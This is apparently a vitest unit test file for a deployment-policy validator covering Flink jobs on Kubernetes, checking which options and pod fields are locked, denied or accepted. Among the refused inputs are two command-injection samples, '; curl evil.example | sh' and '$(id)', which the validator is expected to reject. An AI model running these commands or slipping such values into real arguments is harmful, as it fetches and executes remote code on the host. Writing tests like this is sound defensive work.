import { describe, expect, it } from 'vitest';

import type { Policy } from '#events/records/policy.ts';
import { sendHttp } from '#test/fakes/origins.ts';
import { clusterId, setPolicy, world } from '#test/unit/shared/clusters/fixture.ts';

import {
  at,
  type Data,
  session,
  application,
  options,
  pod,
  container,
  volume,
  annotations,
  dynamic,
  args,
  type Row,
  jobOf,
  local,
  sources,
  pythonFile,
  restricted,
  hardened,
  images,
  digest,
  image,
  secrets,
  locked,
  denied,
  itRefuses,
} from './builders.ts';

const optionRows: readonly Row[] = [
  [
    options({ 'pipeline.name': 'other' }),
    '/config/pipeline.name',
    'locked: the option pipeline.name may not change pipeline.name, which is always etl',
    locked,
  ],
  [
    options({ 'kubernetes.jobmanager.service-account': 'other' }),
    '/config/kubernetes.jobmanager.service-account',
    'locked',
    locked,
  ],
  [pod({ serviceAccountName: 'other' }), `${at}/serviceAccountName`, 'locked', locked],
  [
    options({ 'kubernetes.jobmanager.labels.team': 'b' }),
    '/config/kubernetes.jobmanager.labels.team',
    'locked',
    locked,
  ],
  [options({ 'kubernetes.jobmanager.labels': 'team:a,x:y' }), '/config/kubernetes.jobmanager.labels', 'locked', locked],
  [annotations({ labels: { team: 'b' } }), '/podTemplates/default/metadata/labels/team', 'locked', locked],
  [dynamic('-Dpipeline.name=other'), args, 'the option pipeline.name in kubernetes.jobmanager.entrypoint.args', locked],
  [
    options({ 'kubernetes.taskmanager.entrypoint.args': '-D pipeline.name=x' }),
    '/config/kubernetes.taskmanager.entrypoint.args',
    'locked',
    locked,
  ],
  [
    application({ sql: { script: "SET 'pipeline.name' = 'x'; INSERT INTO a SELECT 1" } }),
    '/job/sql/script',
    'locked',
    locked,
  ],
  [
    options({ 'kubernetes.jobmanager.tolerations': 'key:a,operator:Exists' }),
    '/config/kubernetes.jobmanager.tolerations',
    'denied: the option kubernetes.jobmanager.tolerations may not be set',
    denied,
  ],
  [pod({ tolerations: [{ operator: 'Exists' }] }), `${at}/tolerations/0/operator`, 'denied', denied],
  [container({ env: [{ name: 'A', value: 'b' }] }), `${at}/containers/0/env/0/name`, 'denied', denied],
  [
    container({ envFrom: [{ configMapRef: { name: 'c' } }] }),
    `${at}/containers/0/envFrom/0/configMapRef/name`,
    'denied',
    denied,
  ],
  [options({ 'env.java.opts': '-Da=b' }), '/config/env.java.opts', 'denied', denied],
  [application({ jar: local, args: ['a'] }), '/job/args', 'denied: the field job.args may not be set', denied],
  [pod({ nodeName: 'n' }), `${at}/nodeName`, 'denied', denied],
  [application({ python: { ...pythonFile, files: ['/a.zip'] } }), '/job/python/files', 'denied', denied],
  [options({ 'kubernetes.secrets': 'mine:/mnt' }), '/config/kubernetes.secrets', 'denied', denied],
  [options({ 'kubernetes.entry.path': '/bin/sh' }), '/config/kubernetes.entry.path', 'denied', locked],
  [
    options({ 'kubernetes.flink.conf.dir': '/tmp' }),
    '/config/kubernetes.flink.conf.dir',
    'another configuration',
    locked,
  ],
  [
    container({ env: [{ name: 'FLINK_CONF_DIR', value: '/tmp' }] }),
    `${at}/containers/0/env/0`,
    'configuration',
    locked,
  ],
  [
    options({ 'containerized.master.env.FLINK_PROPERTIES': 'a: b' }),
    '/config/containerized.master.env',
    'configuration',
    locked,
  ],
  [container({ envFrom: [{ configMapRef: { name: 'c' } }] }), `${at}/containers/0/envFrom/0`, 'configuration', locked],
  [
    container({ volumeMounts: [{ name: 'v', mountPath: '/opt/flink/conf/config.yaml', subPath: 'a' }] }),
    `${at}/containers/0/volumeMounts/0`,
    'configuration',
    locked,
  ],
  [dynamic('; curl evil.example | sh'), args, 'arguments'],
  [dynamic('$(id)'), args, 'arguments'],
];

itRefuses(optionRows);

describe('the policy of a target', () => {
  const accepted: readonly (readonly [data: Data, policy?: Partial<Policy>])[] = [
    [session({})],
    [pod({ serviceAccountName: 'default' })],
    [pod(hardened), restricted],
    [session({ image }), images],
    [session({ image: `registry.example.com/flink@${digest}` }), { images: ['*@sha256:*'] }],
    [session({ image: 'flink:2.2' }), { images: ['flink:*'] }],
    [options({ 'kubernetes.service-account': 'admin' }), { serviceAccounts: ['admin'] }],
    [
      options({ 'kubernetes.rest-service.exposed.type': 'NodePort', 'kubernetes.rest-service.annotations': 'a:b' }),
      { exposure: ['NodePort'] },
    ],
    [options({ 'kubernetes.jobmanager.annotations': 'prometheus.io/scrape:true' })],
    [jobOf(local)],
    [jobOf('s3a://jars/etl/a.jar'), sources],
    [jobOf('https://A.example.com:443/a.jar?signature=x'), sources],
    [jobOf('http://anywhere.example/a.jar', { 'user.artifacts.raw-http-enabled': 'true' }), { jars: ['*'] }],
    [application({ sql: { script: "ADD JAR 's3://jars/etl/udf.jar'; INSERT INTO a SELECT 'JAR'" } }), sources],
    [application({ python: { file: 'a.py', sources: { 'a.py': '' } } })],
    [options({ 'kubernetes.secrets': 'etl-a:/mnt' }), secrets],
    [session({ hadoop: { 'core-site.xml': '<configuration/>' } }), { secrets: [] }],
    [options({ 'pipeline.name': 'etl', 'kubernetes.service-account': 'flink' }), locked],
    [options({ 'kubernetes.jobmanager.labels.team': 'a' }), locked],
    [pod({ serviceAccountName: 'flink' }), locked],
    [dynamic("-Dpipeline.name=etl -D'a.b=c d' --x")],
    [volume({ hostPath: { path: '/' } }), { podSecurity: 'privileged' }],
  ];

  it.each(accepted.map(([data, policy = {}]) => [data, policy] as const))(
    'accepts %j with %j',
    async (data, policy) => {
      setPolicy({ denied: [], ...policy });

      expect(await sendHttp('deploy', { clusterId, data }, world)).toMatchObject({ outcome: 'done' });
    },
  );

  it('forces its locked options, whatever the defaults and the command say', async () => {
    setPolicy({ denied: [], ...locked });

    await sendHttp('deploy', { clusterId, data: session({}) }, world);

    const { deployment, config } = world.kubernetes.cluster(clusterId).manifests as unknown as {
      deployment: { metadata: { labels: object } };
      config: Record<string, { value: unknown; from: string }>;
    };
    expect(config['pipeline.name']).toEqual({ value: 'etl', from: 'target' });
    expect(deployment.metadata.labels).toMatchObject({ team: 'a' });
  });
});
